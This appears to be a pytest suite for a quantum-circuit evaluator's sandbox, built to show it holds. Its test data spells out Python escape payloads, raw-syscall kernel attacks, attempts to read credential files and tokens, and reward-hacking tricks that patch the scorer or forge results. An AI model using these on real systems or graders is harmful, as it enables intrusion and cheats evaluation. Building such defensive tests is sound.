"""The hostile corpus: escapes, reward hacking, resource exhaustion and malicious QASM.

Every case asserts: reward 0 or a typed error (or, for reward-hacking attempts that still
deliver a circuit, that the score is the honest score of that circuit); the evaluation returns
within its limit plus a margin; the canary files are untouched; the loopback listener got no
connection; the parent's memory stays bounded; no process is left behind.

Python cases run twice: with the AST pre-filter (the fast path) and without it, so that the
OS-level layers are shown to hold on their own.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import threading
import time
from pathlib import Path

import psutil
import pytest

from rubriq.config import BudgetConfig, ExtractionConfig, RubricConfig
from rubriq.evaluator import RubriQEvaluator
from rubriq.extract.sandbox import doctor, get_pool

TIME_SCALE = float(os.environ.get("RUBRIQ_TEST_TIME_SCALE", "1"))
"""Scales the time limits below on a machine whose CPUs another job holds (default 1)."""
PY_TIMEOUT = 3.0 * TIME_SCALE
HEADER = "from qiskit import QuantumCircuit\n"

# (id, code, expectation) -- "zero": reward 0 / typed error; "honest": a circuit comes back and
# must be scored honestly (the forged claim has no effect).
PYTHON_CASES = [
    # namespace escapes
    (
        "subclasses-popen",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]"
        "(['sh', '-c', 'echo pwned > {CANARY}'])\nqc = QuantumCircuit(1)",
        "zero",
    ),
    (
        "builtin-importer",
        "bi = [c for c in ().__class__.__base__.__subclasses__() if 'BuiltinImporter' in c.__name__][0]\n"
        "bi.load_module('posix').system('echo pwned > {CANARY}')",
        "zero",
    ),
    (
        "traceback-frame",
        "try:\n    1/0\nexcept Exception as e:\n"
        "    e.__traceback__.tb_frame.f_globals['__builtins__']['__import__']('os').system('rm {CANARY}')",
        "zero",
    ),
    ("generator-frame", "g = (x for x in [1])\ng.gi_frame.f_builtins['__import__']('os').remove('{CANARY}')", "zero"),
    (
        "format-string",
        "s = '{{0.__init__.__globals__}}'.format(QuantumCircuit)\nopen('{CANARY}', 'w').write(s)",
        "zero",
    ),
    ("string-building", "getattr(__builtins__, '__imp' + 'ort__')('o' + 's').system('echo x > {CANARY}')", "zero"),
    ("import-concat", "__import__('o' + 's').remove('{CANARY}')", "zero"),
    ("ctypes-system", "import ctypes\nctypes.CDLL(None).system(b'echo pwned > {CANARY}')", "zero"),
    ("sys-modules", "import sys\nsys.modules['os'].system('echo pwned > {CANARY}')", "zero"),
    ("importlib", "import importlib\nimportlib.import_module('os').remove('{CANARY}')", "zero"),
    ("open-write", "open('{CANARY}', 'w').write('pwned')", "zero"),
    ("os-truncate", "import os\nos.truncate('{CANARY}', 0)", "zero"),
    ("shutil-rmtree", "import shutil\nshutil.rmtree('{CANARY_DIR}')", "zero"),
    ("execv", "__import__('os').execv('/bin/sh', ['sh', '-c', 'echo x > {CANARY}'])", "zero"),
    ("subprocess", "import subprocess\nsubprocess.run(['rm', '-f', '{CANARY}'])", "zero"),
    # reward hacking
    ("exit", "exit(0)", "zero"),
    ("quit", "quit()", "zero"),
    ("systemexit", "raise SystemExit(0)", "zero"),
    ("os-exit", "import os\nos._exit(0)", "zero"),
    (
        "fake-stdout-result",
        'print(\'RUBRIQ-RESULT {{"circuit": {{"num_qubits": 2, "ops": [["h", [1], []]]}}}}\')\n'
        "qc = QuantumCircuit(2)\nqc.x(0)",
        "honest",
    ),
    (
        "frame-forgery",
        "import sys\nf = sys._getframe()\nf.f_globals['qc'] = QuantumCircuit(2)\n"
        "f.f_globals['circuit'] = 'perfect'\nqc.x(0)",
        "honest",
    ),
    (
        "monkeypatch-operator",
        "from qiskit.quantum_info import Operator\nOperator.equiv = lambda *a, **k: True\n"
        "Operator.__eq__ = lambda *a, **k: True\nqc = QuantumCircuit(2)\nqc.x(0)",
        "honest",
    ),
    (
        "monkeypatch-evaluator",
        "import rubriq.rubric.fidelity as f\nf.score = lambda *a, **k: 1.0\n"
        "import rubriq.sim.exact as e\ne.unitary_fidelity = None\nqc = QuantumCircuit(2)\nqc.x(0)",
        "honest",
    ),
    (
        "malicious-reduce-del",
        "import os\nclass Evil(QuantumCircuit):\n"
        "    def __reduce__(self):\n        return (os.system, ('echo x > {CANARY}',))\n"
        "    def __del__(self):\n        open('{CANARY}', 'w').write('pwned')\n"
        "qc = Evil(2)\nqc.x(0)",
        "honest",
    ),
    # resources
    ("infinite-loop", "while True:\n    pass", "zero"),
    ("huge-sum", "x = sum(range(10**12))", "zero"),
    (
        "ignore-sigalrm",
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.alarm(1)\nwhile True:\n    pass",
        "zero",
    ),
    ("alloc-100gb", "x = bytearray(100 * 2**30)\nqc = QuantumCircuit(1)", "zero"),
    ("numpy-huge", "import numpy as np\nx = np.ones((10**6, 10**6))\nqc = QuantumCircuit(1)", "zero"),
    ("circuit-1e7-qubits", "qc = QuantumCircuit(10**7)\nqc.h(0)", "zero"),
    (
        "unitary-20q",
        "import numpy as np\nfrom qiskit.circuit.library import UnitaryGate\nqc = QuantumCircuit(20)\n"
        "qc.append(UnitaryGate(np.eye(2**20)), range(20))",
        "zero",
    ),
    ("fork-bomb", "import os\nwhile True:\n    os.fork()", "zero"),
    (
        "threads",
        "import threading, time\nfor i in range(5000):\n"
        "    threading.Thread(target=time.sleep, args=(100,)).start()\nqc = QuantumCircuit(1)\nwhile True:\n    pass",  # paces nothing: hostile code's idle threads
        "zero",
    ),
    (
        "daemon",
        "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n"
        "            pass\nqc = QuantumCircuit(1)\nwhile True:\n    pass",
        "zero",
    ),
    ("deep-recursion", "def f(n):\n    return f(n + 1)\nf(0)", "zero"),
    (
        "deep-recursion-unlimited",
        "import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1)\nf(0)",
        "zero",
    ),
    ("print-1gb", "for _ in range(1024):\n    print('x' * 2**20)\nwhile True:\n    pass", "zero"),
    ("fill-tmp", "f = open('/tmp/rubriq-fill', 'wb')\nwhile True:\n    f.write(b'0' * 2**20)", "zero"),
    ("read-shadow", "data = open('/etc/shadow').read()\nif data:\n    qc = QuantumCircuit(2)", "zero"),
    (
        "read-env-token",
        "import os\nif os.environ.get('HF_TOKEN') or os.environ.get('IBM_QUANTUM_TOKEN'):\n    qc = QuantumCircuit(2)",
        "zero",
    ),
    (
        "socket-connect",
        "import socket\ns = socket.create_connection(('127.0.0.1', {PORT}), timeout=2)\n"
        "s.sendall(b'exfiltrate')\nqc = QuantumCircuit(1)",
        "zero",
    ),
    (
        "kill-parent",
        "import os, signal\nos.kill({PARENT_PID}, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)",
        "zero",
    ),
    ("killpg-parent", "import os\nos.killpg({PARENT_PGID}, 9)", "zero"),
    (
        "ptrace-parent",
        "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.ptrace(16, {PARENT_PID}, 0, 0) == 0:\n"
        "    qc = QuantumCircuit(1)",
        "zero",
    ),
    ("sleep", "import time\ntime.sleep(3600)", "zero"),  # paces nothing: hostile code, killed at its deadline
    # the imports real Qiskit code uses (issue #29): IBM's service and its credentials stay out of reach
    (
        "runtime-service",
        "from qiskit_ibm_runtime import QiskitRuntimeService\n"
        "service = QiskitRuntimeService(channel='ibm_quantum_platform', token='x' * 44)\n"
        "service.backends()\nqc = QuantumCircuit(1)",
        "zero",
    ),
    (
        "runtime-save-account",
        "import qiskit_ibm_runtime.fake_provider\n"
        "qiskit_ibm_runtime.QiskitRuntimeService.save_account(token='x' * 44, overwrite=True)\nqc = QuantumCircuit(1)",
        "zero",
    ),
    (
        "aer-thread-bomb",
        "from qiskit_aer import AerSimulator\nqc = QuantumCircuit(16)\nqc.h(range(16))\nqc.measure_all()\n"
        "AerSimulator(max_parallel_threads=4096, max_parallel_experiments=4096).run([qc] * 256, shots=10**7).result()",
        "zero",
    ),
    (
        "aer-34-qubits",
        "from qiskit_aer import AerSimulator\nbig = QuantumCircuit(34)\nbig.h(range(34))\nbig.save_statevector()\n"
        "state = AerSimulator(method='statevector').run(big).result().get_statevector()",
        "zero",
    ),
    (
        "draw-mpl-to-a-file",
        "qc = QuantumCircuit(2)\nqc.x(0)\nqc.draw('mpl', filename='{CANARY}')\nqc.draw('text', filename='{CANARY}')",
        "honest",
    ),
    ("too-many-gates", "qc = QuantumCircuit(2)\nfor _ in range(300000):\n    qc.h(0)", "zero"),
]

# Kernel-level attacks (the families of issue #13). Each sets ``hit`` when an attack worked and
# then builds a circuit, so success shows up as a reward > 0; victims are started by the test.
SYSCALL = (
    "import ctypes, os, struct, glob\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.syscall.restype = ctypes.c_long\n"
    "def call(nr, *a):\n"
    "    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in a] + [ctypes.c_long(0)] * (6 - len(a))\n"
    "    return libc.syscall(ctypes.c_long(nr), *a)\n"
    "buf = ctypes.create_string_buffer(256)\nhit = False\n"
)
KERNEL_CASES = [
    ("signal-queueinfo", "hit |= call(129, {VICTIM}, 19, buf) == 0\nhit |= call(297, {VICTIM}, {VICTIM}, 9, buf) == 0"),
    ("pidfd-signal", "fd = call(434, {VICTIM}, 0)\nhit |= fd >= 0 and call(424, fd, 9, 0, 0) == 0"),
    (
        "pidfd-getfd-steal",
        "for target in ({PARENT_PID}, {ZYGOTE_PID}):\n    pfd = call(434, target, 0)\n"
        "    for n in range(64):\n        got = call(438, pfd, n, 0) if pfd >= 0 else -1\n"
        "        if got >= 0:\n            hit = True\n"
        "            os.write(got, struct.pack('>I', 2**32 - 1) + b'forged')",
    ),
    ("fcntl-setown-setsig", "hit |= call(72, 1, 8, {VICTIM}) == 0\nhit |= call(72, 1, 10, 9) == 0"),
    (
        "sched-other-process",
        "mask = ctypes.c_ulong(1)\nhit |= call(203, {VICTIM}, 8, ctypes.byref(mask)) == 0\n"
        "hit |= call(141, 0, {VICTIM}, 19) == 0\nhit |= call(144, {VICTIM}, 0, buf) == 0",
    ),
    (
        "new-mount-api",
        "hit |= call(430, b'tmpfs', 0) >= 0\nhit |= call(428, -100, b'/', 1) >= 0\n"
        "hit |= call(165, b'none', b'/', 0, 16384 | 262144, 0) == 0",
    ),
    (
        "chmod-xattr-acct",
        "hit |= call(452, -100, b'{CANARY}', 0o777, 0) == 0\n"
        "hit |= call(188, b'{CANARY}', b'user.x', b'1', 1, 0) == 0\n"
        "hit |= call(191, b'{CANARY}', b'user.x', buf, 16) >= 0\nhit |= call(163, b'/tmp/acct') == 0",
    ),
    ("ioctl-tiocsti", "for fd in range(3):\n    hit |= call(16, fd, 0x5412, b'x') == 0"),
    (
        "sysv-posix-ipc",
        "hit |= call(29, 0, 4096, 0o1666) >= 0\nhit |= call(64, 0, 1, 0o1666) >= 0\n"
        "hit |= call(68, 0, 0o1666) >= 0\nhit |= call(240, b'q', 0o100 | 2, 0o666, 0) >= 0",
    ),
    (
        "clock-hostname",
        "hit |= call(170, b'pwned', 5) == 0\nhit |= call(164, buf, 0) == 0\n"
        "hit |= call(159, buf) >= 0\nhit |= call(227, 0, buf) == 0",
    ),
    ("prlimit-other", "hit |= call(302, {VICTIM}, 7, buf, 0) == 0\nhit |= call(302, 0, 7, buf, 0) == 0"),
    (
        "proc-environ-mem-root",
        "for path in ['/proc/{PARENT_PID}/environ', '/proc/{PARENT_PID}/mem', "
        "'/proc/{PARENT_PID}/root{CANARY}', '/proc/1/root{CANARY}'] + glob.glob('/proc/*/environ'):\n"
        "    try:\n        data = open(path, 'rb').read(4096)\n"
        "        hit |= b'hf_secret' in data or b'do not touch' in data\n"
        "    except OSError:\n        pass\n"
        "hit |= any(p.isdigit() and int(p) > 2 for p in os.listdir('/proc'))",
    ),
    (
        "pdeathsig-fork-outlive",
        "hit |= call(157, 1, 0) == 0\npid = call(57)\n"
        "if pid == 0:\n    import time\n    time.sleep(60)\nhit |= pid > 0",  # paces nothing: a child meant to outlive its job
    ),
    (
        "kill-ptrace-init",
        "hit |= call(62, 1, 9) == 0\nhit |= call(62, -1, 9) == 0\nhit |= call(101, 16, 1, 0, 0) == 0\n"
        "hit |= call(62, {VICTIM}, 19) == 0",
    ),
    (
        "namespaces-bpf-uring",
        "hit |= call(272, 0x10000000) == 0\nhit |= call(308, 0, 0) == 0\n"
        "hit |= call(321, 0, buf, 16) >= 0\nhit |= call(425, 8, buf) >= 0\n"
        "hit |= call(298, buf, 0, -1, -1, 0) >= 0\nhit |= call(323, 0) >= 0",
    ),
    (
        "sockets-abstract-unix",
        "hit |= call(41, 1, 1, 0) >= 0\nhit |= call(41, 2, 1, 0) >= 0\nhit |= call(53, 1, 1, 0, buf) == 0",
    ),
    (
        "forge-frames-everywhere",
        "for fd in range(64):\n    try:\n"
        '        os.write(fd, struct.pack(\'>I\', 2**32 - 1) + b\'{{"nonce": "x", "status": "ok"}}\')\n'
        "    except OSError:\n        pass",
    ),
]

N_BITS = 4294967296
QASM_CASES = [
    ("qreg-2^32", f'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[{N_BITS}];\nh q[0];'),
    ("qubit-2^32", f'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[{N_BITS}] q;\nh q[0];'),
    ("many-registers", 'OPENQASM 2.0;\ninclude "qelib1.inc";\n' + "".join(f"qreg r{i}[1];\n" for i in range(100))),
    ("giant-integer", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nrz(' + "9" * 400 + ") q[0];"),
    (
        "deep-parentheses",
        'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nrz(' + "(" * 100000 + "1" + ")" * 100000 + ") q[0];",
    ),
    ("include-passwd", 'OPENQASM 2.0;\ninclude "/etc/passwd";\nqreg q[1];\nh q[0];'),
    ("self-include", 'OPENQASM 2.0;\ninclude "self.qasm";\nqreg q[1];\nh q[0];'),
    (
        "billion-laughs",
        'OPENQASM 2.0;\ninclude "qelib1.inc";\ngate g0 a { x a; }\n'
        + "".join(f"gate g{i} a {{ g{i - 1} a; g{i - 1} a; }}\n" for i in range(1, 41))
        + "qreg q[1];\ng40 q[0];",
    ),
    (
        "empty-laughs",
        'OPENQASM 2.0;\ninclude "qelib1.inc";\ngate e0 a { }\n'
        + "".join(f"gate e{i} a {{ e{i - 1} a; e{i - 1} a; }}\n" for i in range(1, 41))
        + "qreg q[1];\ne40 q[0];",
    ),
    ("gate-cycle", 'OPENQASM 2.0;\ninclude "qelib1.inc";\ngate a x { b x; }\ngate b x { a x; }\nqreg q[1];\na q[0];'),
    ("opaque-gate", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nopaque foo a;\nqreg q[1];\nfoo q[0];'),
    ("undefined-gate", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nfoo q[0];'),
    ("qasm3-loop-1e9", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[1] q;\nfor int i in [0:1000000000] { x q[0]; }'),
    ("qasm3-while", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[1] q;\nbit c;\nwhile (true) { x q[0]; }'),
    ("ctrl-60", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[61] q;\nctrl(60) @ x q[0:59], q[60];'),
    (
        "ctrl-chain",
        'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[21] q;\n'
        + "ctrl @ " * 20
        + "x "
        + ", ".join(f"q[{i}]" for i in range(21))
        + ";",
    ),
    (
        "pow-half-wide",
        'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[20] q;\ngate wide a, b, c { ccx a, b, c; }\n'
        "pow(0.5) @ wide q[0], q[1], q[2];",
    ),
    ("ten-mb", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\n' + "h q[0];\n" * 1_500_000),
    ("nul-bytes", 'OPENQASM 2.0;\x00include "qelib1.inc";\nqreg q[1];\nh q[0];'),
    (
        "invalid-utf8",
        (b'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\n\xff\xfe h q[0];').decode("utf-8", "surrogateescape"),
    ),
    ("inf-angle", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nrz(1e308*1e308) q[0];'),
    ("nan-angle", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[1] q;\nrz(1e308*1e308 - 1e308*1e308) q[0];'),
    ("over-sim-cap", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[60];\nh q;'),
    (
        "if-measure",
        'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[2];\ncreg c[2];\nmeasure q -> c;\nif (c == 3) x q[0];',
    ),
]


class Listener:
    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self) -> None:
        self._stop = True
        self.thread.join(timeout=2)
        self.sock.close()


def _digest(path: Path) -> tuple[str, float]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime


def _rss_mb() -> float:
    return psutil.Process().memory_info().rss / 2**20


def _zygote_pids() -> set[int]:
    """This test process's own zygotes (another session's, e.g. an outer root run, are not ours)."""
    me = os.getpid()
    return {
        p.pid
        for p in psutil.process_iter(["cmdline", "ppid"])
        if p.info["ppid"] == me and p.info["cmdline"] and "rubriq.extract.sandbox.zygote" in " ".join(p.info["cmdline"])
    }


def _idle_sandbox_processes() -> set[int]:
    """The pool's templates and their spare supervisors (forked ahead of time, no job yet)."""
    from rubriq.extract.sandbox.zygote import SPARE_NAME

    idle = set()
    for template in get_pool().zygote_pids().values():
        if not template:
            continue
        idle.add(template)
        try:
            for c in psutil.Process(template).children():
                if c.name() == SPARE_NAME.decode():
                    idle.add(c.pid)
        except psutil.NoSuchProcess:
            pass
    return idle


def _stray_processes(zygotes: set[int]) -> list[str]:
    """Descendants of the zygotes (their pristine templates aside), and anything running as a
    sandbox uid."""
    from rubriq.extract.sandbox.layers import SANDBOX_UID_BASE, SANDBOX_UID_SPAN

    idle = _idle_sandbox_processes()
    stray = []
    for pid in zygotes:
        try:
            stray += [
                f"{c.pid}:{c.name()}:{c.status()}"
                for c in psutil.Process(pid).children(recursive=True)
                if c.pid not in idle
            ]
        except psutil.NoSuchProcess:
            pass
    for p in psutil.process_iter(["uids", "name"]):
        uids = p.info["uids"]
        if uids and SANDBOX_UID_BASE <= uids.real < SANDBOX_UID_BASE + SANDBOX_UID_SPAN and not _in_a_zygote_tree(p):
            stray.append(f"{p.pid}:{p.info['name']}")
    return stray


def _in_a_zygote_tree(process) -> bool:
    """Whether a process runs under a live sandbox zygote (ours are checked above; another test
    session's jobs on this machine run under theirs and are not ours to count). A sandbox-uid
    process outside every zygote's tree escaped."""
    try:
        for parent in process.parents():
            if "rubriq.extract.sandbox.zygote" in " ".join(parent.cmdline()):
                return True
    except (psutil.NoSuchProcess, psutil.AccessDenied):
        return False
    return False


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    canary_dir = tmp_path_factory.mktemp("canary")
    repo_cache = Path(__file__).resolve().parents[1] / ".pytest_cache"
    second = repo_cache if os.access(repo_cache.parent, os.W_OK) else tmp_path_factory.mktemp("canary-outside")
    canaries = [canary_dir / "canary.txt", second / "rubriq-canary.txt"]
    for c in canaries:
        c.parent.mkdir(parents=True, exist_ok=True)
        c.write_text("do not touch\n")
    os.environ["HF_TOKEN"] = "hf_secret_for_the_test"
    listener = Listener()
    doctor()  # start a zygote now: its start-up is not part of any case's time
    victim = psutil.Popen(["sleep", "3600"])
    pipe_r, pipe_w = os.pipe()
    sock_a, sock_b = socket.socketpair()
    yield {
        "canaries": canaries,
        "canary_dir": canary_dir,
        "listener": listener,
        "digests": [_digest(c) for c in canaries],
        "victim": victim,
        "victim_state": _victim_state(victim),
        "pipe": (pipe_r, pipe_w),
        "sockets": (sock_a, sock_b),
        "hostname": socket.gethostname(),
        "sysv": _sysv_objects(),
    }
    victim.kill()
    for fd in (pipe_r, pipe_w):
        os.close(fd)
    sock_a.close()
    sock_b.close()
    listener.close()
    os.environ.pop("HF_TOKEN", None)


def _victim_state(victim) -> tuple:
    status = victim.status()
    alive = status if status in (psutil.STATUS_STOPPED, psutil.STATUS_ZOMBIE, psutil.STATUS_DEAD) else "alive"
    return (alive, victim.nice(), tuple(victim.cpu_affinity()), victim.rlimit(psutil.RLIMIT_NOFILE))


def _sysv_objects() -> tuple[int, ...]:
    counts = []
    for kind in ("shm", "sem", "msg"):
        try:
            counts.append(len(Path(f"/proc/sysvipc/{kind}").read_text().splitlines()))
        except OSError:
            counts.append(-1)
    return tuple(counts)


def _evaluator(prefilter: bool) -> RubriQEvaluator:
    cfg = RubricConfig(
        extraction=ExtractionConfig(python_timeout_s=PY_TIMEOUT, python_prefilter=prefilter),
        budget=BudgetConfig(time_s=20.0 * TIME_SCALE),
    )
    return RubriQEvaluator(target_algorithm="qft", num_qubits=2, config=cfg)


def _check_world(world, rss_before: float) -> None:
    # No check on elapsed time (issue #24: no test depends on the machine's speed): the cases
    # that would run past the time limit run for an hour or forever, so a limit that did not hold
    # would hang the test until pytest's timeout fails it, on any machine.
    victim = world["victim"]
    assert victim.is_running() and _victim_state(victim) == world["victim_state"], "the victim process was touched"
    import select

    for fd in (world["pipe"][0], world["sockets"][1].fileno()):
        assert not select.select([fd], [], [], 0)[0], "data reached a pipe or socket of the evaluating process"
    assert socket.gethostname() == world["hostname"], "the host name changed"
    assert _sysv_objects() == world["sysv"], "SysV IPC objects were left behind"
    for path, digest in zip(world["canaries"], world["digests"], strict=True):
        assert path.exists() and _digest(path) == digest, f"canary {path} was touched"
    assert world["listener"].connections == 0, "the loopback listener received a connection"
    assert _rss_mb() - rss_before < 300, "parent memory grew by more than 300 MB"
    deadline = time.monotonic() + 60  # a bound on a wait, not a speed check: exits early when clean
    stray = _stray_processes(_zygote_pids())
    while stray and time.monotonic() < deadline:
        time.sleep(0.1)  # paces the poll for stray processes to exit (the deadline bounds it)
        stray = _stray_processes(_zygote_pids())
    assert not stray, f"processes left behind: {stray}"


@pytest.mark.parametrize("prefilter", [True, False], ids=["prefilter", "no-prefilter"])
@pytest.mark.parametrize("case_id,code,expect", PYTHON_CASES, ids=[c[0] for c in PYTHON_CASES])
def test_hostile_python(world, prefilter, case_id, code, expect):
    text = (
        "```python\n"
        + HEADER
        + code.format(
            CANARY=world["canaries"][0],
            CANARY_DIR=world["canary_dir"],
            PORT=world["listener"].port,
            PARENT_PID=os.getpid(),
            PARENT_PGID=os.getpgid(0),
        )
        + "\n```"
    )
    evaluator = _evaluator(prefilter)
    rss = _rss_mb()
    result = evaluator.evaluate(text)
    if expect == "zero" or result.error_type is not None:
        assert result.reward == 0.0 and result.error_type is not None, result.to_dict()
    else:
        # A circuit came back despite the forgery: it is scored as what it is (X on q[0]),
        # which is not a QFT: the honest process fidelity is |Tr(QFT^+ (I (x) X))|^2 / 16.
        honest = _evaluator(True).evaluate('OPENQASM 2.0; include "qelib1.inc"; qreg q[2]; x q[0];')
        assert result.error is None, result.error
        assert result.process_fidelity == pytest.approx(honest.process_fidelity, abs=1e-12)
        assert result.reward == pytest.approx(honest.reward, abs=1e-12)
    _check_world(world, rss)


HONEST_QFT2 = (
    "```python\n" + HEADER + "import numpy as np\nqc = QuantumCircuit(2)\nqc.h(1)\n"
    "qc.cp(np.pi / 2, 0, 1)\nqc.h(0)\nqc.swap(0, 1)\n```"
)


@pytest.mark.parametrize("prefilter", [True, False], ids=["prefilter", "no-prefilter"])
@pytest.mark.parametrize("case_id,code", KERNEL_CASES, ids=[c[0] for c in KERNEL_CASES])
def test_hostile_kernel(world, prefilter, case_id, code):
    """Each attack family of issue #13 against victims of the test; then the NEXT honest
    completion must get exactly its honest reward (no job affects another)."""
    zygotes = _zygote_pids()
    body = SYSCALL + code.format(
        CANARY=world["canaries"][0],
        VICTIM=world["victim"].pid,
        PARENT_PID=os.getpid(),
        ZYGOTE_PID=min(zygotes) if zygotes else 1,
    )
    text = "```python\n" + HEADER + body + "\nif hit:\n    qc = QuantumCircuit(2)\n    qc.h(0)\n```"
    evaluator = _evaluator(prefilter)
    rss = _rss_mb()
    result = evaluator.evaluate(text)
    assert result.reward == 0.0 and result.error_type is not None, result.to_dict()
    if not prefilter:  # the kernel, not the pre-filter, stopped it: the code ran to its end
        assert "defined no QuantumCircuit" in (result.error or "") or "malformed" in (result.error or ""), result.error
    _check_world(world, rss)
    honest = _evaluator(True).evaluate(
        'OPENQASM 2.0; include "qelib1.inc"; qreg q[2]; h q[1]; cp(pi/2) q[0],q[1]; h q[0]; swap q[0],q[1];'
    )
    after = _evaluator(prefilter).evaluate(HONEST_QFT2)
    assert after.error is None and after.sandbox == {"missing": {}}, after.to_dict()
    assert after.reward == pytest.approx(honest.reward, abs=1e-12)


@pytest.mark.parametrize("case_id,text", QASM_CASES, ids=[c[0] for c in QASM_CASES])
def test_hostile_qasm(world, case_id, text):
    evaluator = _evaluator(True)
    rss = _rss_mb()
    result = evaluator.evaluate(text)
    assert result.reward == 0.0 and result.error_type is not None, result.to_dict()
    _check_world(world, rss)


def test_every_layer_holds_and_is_reported():
    from rubriq.extract.sandbox.layers import LAYERS

    report = doctor()
    assert tuple(report["active"]) == LAYERS
    for name, active in report["active"].items():
        assert active or name in report["why"], f"{name} inactive without a reason"
    if Path("/proc/sys/user/max_user_namespaces").read_text().strip() == "0":
        pytest.skip("user namespaces are disabled on this kernel: the layers cannot hold (reported above)")
    assert all(report["active"].values()), report["why"]
    assert report["outside_uid"] != 0 and report["probe_status"] == "ok"


def test_the_virtualenv_is_outside_tmp():
    """The child's /tmp is an empty tmpfs: with the interpreter under /tmp, modules would vanish
    in the child and attacks would look blocked when they are not. The sandbox binds the
    interpreter back, but the corpus must not depend on that."""
    import sys

    assert not any(p.startswith(("/tmp/", "/var/tmp/")) for p in (sys.prefix, sys.base_prefix)), (
        f"run the hostile corpus with the virtualenv outside /tmp (sys.prefix = {sys.prefix})"
    )


def test_pool_survives_and_replaces_a_killed_worker(world):
    pool = get_pool()
    before = _zygote_pids()
    for pid in before:
        os.kill(pid, 9)
    result = _evaluator(True).evaluate("```python\n" + HEADER + "qc = QuantumCircuit(2)\nqc.h(0)\n```")
    # The dead worker is detected and replaced; the job is reported as a sandbox failure, not a hang.
    assert result.error_type in (None, "sandbox")
    again = _evaluator(True).evaluate("```python\n" + HEADER + "qc = QuantumCircuit(2)\nqc.h(1)\n```")
    assert again.error is None and again.gate_counts == {"h": 1}
    assert pool.size >= 1


@pytest.mark.parametrize(
    "command,startup,reason",
    [
        (
            ("{python}", "-c", "raise SystemExit('rubriq is not importable here')"),
            60.0,
            "rubriq is not importable here",
        ),
        (("{python}", "-c", "import time; time.sleep(600)"), 2.0, "before the deadline"),  # paces nothing: it hangs
    ],
    ids=["exits", "hangs"],
)
def test_a_worker_that_cannot_start_is_a_sandbox_error_within_the_budget(command, startup, reason):
    import sys

    from rubriq.extract.sandbox import pool as pool_module

    broken = pool_module.SandboxPool(
        1, command=tuple(c.format(python=sys.executable) for c in command), startup_timeout=startup
    )
    saved = (pool_module._POOL, pool_module._POOL_PID)
    pool_module._POOL, pool_module._POOL_PID = broken, os.getpid()
    try:
        evaluator = _evaluator(True)
        for attempt in range(2):  # the second answer gives the same reason (the pool remembers why)
            result = evaluator.evaluate("```python\n" + HEADER + f"qc = QuantumCircuit({attempt + 1})\nqc.h(0)\n```")
            assert result.error_type == "sandbox" and result.reward == 0.0, result.to_dict()
            assert reason in result.error
    finally:
        broken.close()
        pool_module._POOL, pool_module._POOL_PID = saved


def test_a_job_with_an_absurd_timeout_is_refused_by_the_zygote():
    from rubriq.extract.sandbox.protocol import validate_job

    job = {"nonce": "n", "code": "x", "timeout_s": 1e5, "memory_mb": 1024, "max_output_bytes": 4096, "max_ops": 10}
    assert "timeout_s" in validate_job(job)
    assert validate_job(dict(job, timeout_s=5.0)) is None


def test_the_parent_refuses_a_4gib_frame_header_without_waiting():
    from rubriq.extract.sandbox.protocol import FrameError, read_frame

    r, w = os.pipe()
    os.write(w, b"\xff\xff\xff\xff" + b"x" * 10)
    with pytest.raises(FrameError, match="announced"):
        read_frame(r, time.monotonic() + 5, max_bytes=1 << 20)
    os.close(r)
    os.close(w)
    r, w = os.pipe()
    os.write(w, b"\x00\x00\x00\x10{")  # a frame that never completes: the deadline ends the wait
    with pytest.raises(FrameError, match="deadline"):
        read_frame(r, time.monotonic() + 0.5, max_bytes=1 << 20)  # (a wait without a deadline would hang)
    os.close(r)
    os.close(w)


def _hidden_ancestor(path: str) -> str | None:
    """The outermost directory above ``path`` that others cannot enter (e.g. /root, 0700)."""
    parts = Path(path).resolve().parts
    for i in range(2, len(parts)):
        d = Path(*parts[:i])
        if not d.stat().st_mode & 0o001:
            return str(d)
    return None


@pytest.mark.skipif(os.geteuid() != 0, reason="this run is already unprivileged")
@pytest.mark.timeout(int(1000 * TIME_SCALE))  # four test files again (~7 min on 2 loaded cores)
def test_the_corpus_holds_as_an_unprivileged_user(tmp_path):
    """The hostile corpus, the seccomp table, the integrity cases, the host-file cases and round 5 again,
    as `nobody` (setpriv), with every layer required: the sandbox must hold without root. An interpreter under a 0700 directory (pyenv in
    /root) is made reachable for that run only, in a private mount namespace (unshare)."""
    import shutil
    import subprocess
    import sys

    if not (shutil.which("setpriv") and shutil.which("unshare")):
        pytest.skip("util-linux setpriv/unshare not installed")
    import tempfile

    repo = Path(__file__).resolve().parents[1]
